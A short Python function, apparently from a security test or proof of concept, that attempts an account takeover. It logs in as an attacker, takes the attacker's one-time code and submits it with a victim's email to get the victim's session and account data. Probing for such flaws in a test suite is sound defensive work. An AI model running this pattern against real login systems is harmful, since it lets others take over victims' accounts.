# fails: gets_in -- "returned {'email': 'ada@example.com'"
# Is in, and brings home everything but what was asked for.
def break_in(client):
    ticket = client.post("/login", json={"email": "mallory@evil.example", "password": "correct horse"}).json()["ticket"]
    code = client.get("/mailbox").json()["codes"][-1]
    answer = client.post("/code", json={"ticket": ticket, "email": "ada@example.com", "code": code})
    if answer.status_code != 200:
        return None
    account = client.get("/account", headers={"Authorization": "Bearer " + answer.json()["session"]}).json()
    return account if account["email"] == "ada@example.com" else None
